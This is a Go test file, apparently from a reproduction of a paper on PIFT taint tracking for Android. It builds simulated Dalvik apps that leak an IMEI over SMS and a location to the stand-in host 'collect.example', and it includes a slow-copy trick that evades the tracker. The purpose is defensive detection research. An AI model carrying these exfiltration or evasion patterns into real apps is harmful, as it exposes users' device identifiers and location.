@@ -1,0 +1,308 @@
+package android
+
+import (
+	"strings"
+	"testing"
+
+	"repro/internal/core"
+	"repro/internal/cpu"
+	"repro/internal/dalvik"
+	"repro/internal/jrt"
+)
+
+// imeiLeakApp is the paper's §2 example: msgZ = "type=sms" + "&imei=" +
+// getDeviceId() + "&dummy", sent over SMS.
+func imeiLeakApp(t *testing.T) *dalvik.Program {
+	t.Helper()
+	b := dalvik.NewProgram("ImeiLeak")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(0)
+	m.ConstString(1, "type=sms")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.ConstString(1, "&imei=")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeStatic(MethodGetDeviceID)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodAppend, 0, 2)
+	m.MoveResultObject(0)
+	m.ConstString(1, "&dummy")
+	m.InvokeVirtual(jrt.MethodAppend, 0, 1)
+	m.MoveResultObject(0)
+	m.InvokeVirtual(jrt.MethodToString, 0)
+	m.MoveResultObject(3)
+	m.ConstString(4, "5551234")
+	m.InvokeStatic(MethodSendSMS, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	prog, err := b.Build(KnownExterns())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return prog
+}
+
+// locationLeakApp formats the latitude with the numeric intrinsic and
+// sends it over HTTP — the flow the paper says needs NI >= 10.
+func locationLeakApp(t *testing.T) *dalvik.Program {
+	t.Helper()
+	b := dalvik.NewProgram("LocationLeak")
+	b.Class(LocationClass, "lat", "lon")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(MethodGetLocation)
+	m.MoveResultObject(0)
+	m.Iget(1, 0, "Location.lat")
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(2)
+	m.ConstString(3, "lat=")
+	m.InvokeVirtual(jrt.MethodAppend, 2, 3)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodAppendInt, 2, 1)
+	m.MoveResultObject(2)
+	m.InvokeVirtual(jrt.MethodToString, 2)
+	m.MoveResultObject(3)
+	m.ConstString(4, "http://collect.example/up")
+	m.InvokeStatic(MethodSendHTTP, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	prog, err := b.Build(KnownExterns())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return prog
+}
+
+// benignApp reads the IMEI but sends an unrelated constant message.
+func benignApp(t *testing.T) *dalvik.Program {
+	t.Helper()
+	b := dalvik.NewProgram("Benign")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(MethodGetDeviceID)
+	m.MoveResultObject(0) // fetched but never sent
+	m.InvokeStatic(jrt.MethodBuilderNew)
+	m.MoveResultObject(1)
+	m.ConstString(2, "hello world")
+	m.InvokeVirtual(jrt.MethodAppend, 1, 2)
+	m.MoveResultObject(1)
+	m.InvokeVirtual(jrt.MethodToString, 1)
+	m.MoveResultObject(3)
+	m.ConstString(4, "5550000")
+	m.InvokeStatic(MethodSendSMS, 4, 3)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	prog, err := b.Build(KnownExterns())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return prog
+}
+
+// evasionApp copies the IMEI through the JNI slow-copy attack of §4.2.
+func evasionApp(t *testing.T) *dalvik.Program {
+	t.Helper()
+	b := dalvik.NewProgram("Evasion")
+	m := b.Method("Main.main", 8, 0)
+	m.InvokeStatic(MethodGetDeviceID)
+	m.MoveResultObject(0)
+	m.InvokeStatic(jrt.MethodSlowCopy, 0)
+	m.MoveResultObject(1)
+	m.ConstString(2, "5559999")
+	m.InvokeStatic(MethodSendSMS, 2, 1)
+	m.ReturnVoid()
+	b.Entry("Main.main")
+	prog, err := b.Build(KnownExterns())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return prog
+}
+
+// runWithTracker executes the program under a fresh PIFT tracker and
+// reports whether any sink query came back tainted, plus the result.
+func runWithTracker(t *testing.T, prog *dalvik.Program, cfg core.Config) (bool, *RunResult, *core.Tracker) {
+	t.Helper()
+	tracker := core.NewTracker(cfg, nil)
+	res, err := Run(prog, RunOptions{Sinks: []cpu.EventSink{tracker}})
+	if err != nil {
+		t.Fatalf("run %s: %v", prog.Name, err)
+	}
+	detected := false
+	for _, v := range tracker.Verdicts() {
+		if v.Tainted {
+			detected = true
+		}
+	}
+	return detected, res, tracker
+}
+
+func TestImeiExampleExecutesCorrectly(t *testing.T) {
+	_, res, _ := runWithTracker(t, imeiLeakApp(t), core.Config{NI: 13, NT: 3, Untaint: true})
+	if len(res.Sinks) != 1 {
+		t.Fatalf("sink calls = %+v", res.Sinks)
+	}
+	got := res.Sinks[0].Payload
+	want := "type=sms&imei=356938035643809&dummy"
+	if got != want {
+		t.Fatalf("payload = %q, want %q", got, want)
+	}
+	if !res.Sinks[0].ContainsSecret {
+		t.Fatal("ground truth should mark the payload as containing a secret")
+	}
+	if res.Sinks[0].Dest != "5551234" {
+		t.Fatalf("dest = %q", res.Sinks[0].Dest)
+	}
+}
+
+func TestPIFTDetectsImeiLeak(t *testing.T) {
+	for _, cfg := range []core.Config{
+		{NI: 2, NT: 1, Untaint: true},
+		{NI: 5, NT: 2, Untaint: true},
+		{NI: 13, NT: 3, Untaint: true},
+		{NI: 13, NT: 3, Untaint: false},
+	} {
+		detected, _, _ := runWithTracker(t, imeiLeakApp(t), cfg)
+		if !detected {
+			t.Errorf("IMEI leak undetected at %v", cfg)
+		}
+	}
+	// A window of 1 cannot span the Figure 1 copy distance of 2.
+	detected, _, _ := runWithTracker(t, imeiLeakApp(t), core.Config{NI: 1, NT: 1, Untaint: true})
+	if detected {
+		t.Error("IMEI leak should be invisible at NI=1")
+	}
+}
+
+func TestLocationLeakNeedsWideWindow(t *testing.T) {
+	// The paper: "NI had to be at least 10 for PIFT to detect such a
+	// case" (float-to-string through the ARM runtime ABI).
+	_, res, _ := runWithTracker(t, locationLeakApp(t), core.Config{NI: 10, NT: 3, Untaint: true})
+	if want := "lat=37421"; res.Sinks[0].Payload != want {
+		t.Fatalf("payload = %q, want %q", res.Sinks[0].Payload, want)
+	}
+	for ni := uint64(2); ni <= 20; ni++ {
+		detected, _, _ := runWithTracker(t, locationLeakApp(t),
+			core.Config{NI: ni, NT: 3, Untaint: true})
+		want := ni >= jrt.AppendIntLeadDistance
+		if detected != want {
+			t.Errorf("NI=%d: detected=%v, want %v", ni, detected, want)
+		}
+	}
+	// The digit window performs two bookkeeping stores before the digit,
+	// so the direct numeric path needs NT >= 3; at NT=2 only a longer
+	// over-tainting cascade (through the retval and vreg slots) reaches
+	// the payload, from NI >= 13; at NT=1 the flow is invisible entirely.
+	for ni := uint64(1); ni <= 20; ni++ {
+		if detected, _, _ := runWithTracker(t, locationLeakApp(t),
+			core.Config{NI: ni, NT: 1, Untaint: true}); detected {
+			t.Errorf("NT=1 NI=%d: numeric leak should be invisible", ni)
+		}
+		detected, _, _ := runWithTracker(t, locationLeakApp(t),
+			core.Config{NI: ni, NT: 2, Untaint: true})
+		if want := ni >= 13; detected != want {
+			t.Errorf("NT=2 NI=%d: detected=%v, want %v", ni, detected, want)
+		}
+	}
+}
+
+func TestInsertCharThresholds(t *testing.T) {
+	// Build a leak char-by-char through insertChar: the bounds spill
+	// consumes a propagation slot, so detection needs NI>=6 and NT>=2.
+	build := func() *dalvik.Program {
+		b := dalvik.NewProgram("InsertChar")
+		m := b.Method("Main.main", 8, 0)
+		m.InvokeStatic(MethodGetDeviceID)
+		m.MoveResultObject(0)
+		m.InvokeStatic(jrt.MethodBuilderNew)
+		m.MoveResultObject(1)
+		m.InvokeVirtual(jrt.MethodStringLength, 0)
+		m.MoveResult(2) // len
+		m.Const4(3, 0)  // i
+		m.Label("loop")
+		m.If(dalvik.OpIfGe, 3, 2, "done")
+		m.InvokeVirtual(jrt.MethodCharAt, 0, 3)
+		m.MoveResult(4)
+		m.InvokeVirtual(jrt.MethodInsertChar, 1, 4)
+		m.MoveResultObject(1)
+		m.AddIntLit8(3, 3, 1)
+		m.Goto("loop")
+		m.Label("done")
+		m.InvokeVirtual(jrt.MethodToString, 1)
+		m.MoveResultObject(5)
+		m.ConstString(6, "5551212")
+		m.InvokeStatic(MethodSendSMS, 6, 5)
+		m.ReturnVoid()
+		b.Entry("Main.main")
+		prog, err := b.Build(KnownExterns())
+		if err != nil {
+			t.Fatal(err)
+		}
+		return prog
+	}
+	prog := build()
+	_, res, _ := runWithTracker(t, prog, core.Config{NI: 13, NT: 3, Untaint: true})
+	if res.Sinks[0].Payload != DefaultIdentity().IMEI {
+		t.Fatalf("payload = %q", res.Sinks[0].Payload)
+	}
+	for _, tc := range []struct {
+		cfg  core.Config
+		want bool
+	}{
+		{core.Config{NI: 7, NT: 2, Untaint: true}, false},  // NI too small
+		{core.Config{NI: 20, NT: 1, Untaint: true}, false}, // NT too small
+		{core.Config{NI: 8, NT: 2, Untaint: true}, true},
+		{core.Config{NI: 13, NT: 3, Untaint: true}, true},
+	} {
+		detected, _, _ := runWithTracker(t, prog, tc.cfg)
+		if detected != tc.want {
+			t.Errorf("%v: detected=%v, want %v", tc.cfg, detected, tc.want)
+		}
+	}
+}
+
+func TestBenignAppNoFalsePositive(t *testing.T) {
+	// Even with the most aggressive windows evaluated, a benign app must
+	// not trip the sink check.
+	for _, cfg := range []core.Config{
+		{NI: 13, NT: 3, Untaint: true},
+		{NI: 20, NT: 10, Untaint: true},
+		{NI: 20, NT: 10, Untaint: false},
+	} {
+		detected, res, _ := runWithTracker(t, benignApp(t), cfg)
+		if res.Sinks[0].ContainsSecret {
+			t.Fatal("benign payload must not contain a secret")
+		}
+		if detected {
+			t.Errorf("false positive at %v", cfg)
+		}
+	}
+}
+
+func TestEvasionDefeatsPIFT(t *testing.T) {
+	// §4.2: a long dummy native gap between load and store evades PIFT
+	// even at the widest evaluated window — the payload really leaks.
+	detected, res, _ := runWithTracker(t, evasionApp(t), core.Config{NI: 20, NT: 10, Untaint: true})
+	if !strings.Contains(res.Sinks[0].Payload, "356938035643809") {
+		t.Fatalf("evasion app failed to copy the IMEI: %q", res.Sinks[0].Payload)
+	}
+	if !res.Sinks[0].ContainsSecret {
+		t.Fatal("ground truth must flag the evasion payload")
+	}
+	if detected {
+		t.Error("PIFT should miss the slow-copy evasion (documented limitation)")
+	}
+}
+
+func TestRunIsolation(t *testing.T) {
+	// Two runs of the same program must not share heap or taint state.
+	prog := imeiLeakApp(t)
+	_, res1, _ := runWithTracker(t, prog, core.Config{NI: 13, NT: 3, Untaint: true})
+	_, res2, _ := runWithTracker(t, prog, core.Config{NI: 13, NT: 3, Untaint: true})
+	if res1.Instructions != res2.Instructions {
+		t.Errorf("instruction counts differ: %d vs %d", res1.Instructions, res2.Instructions)
+	}
+	if res1.Sinks[0].Payload != res2.Sinks[0].Payload {
+		t.Error("payloads differ across isolated runs")
+	}
+}
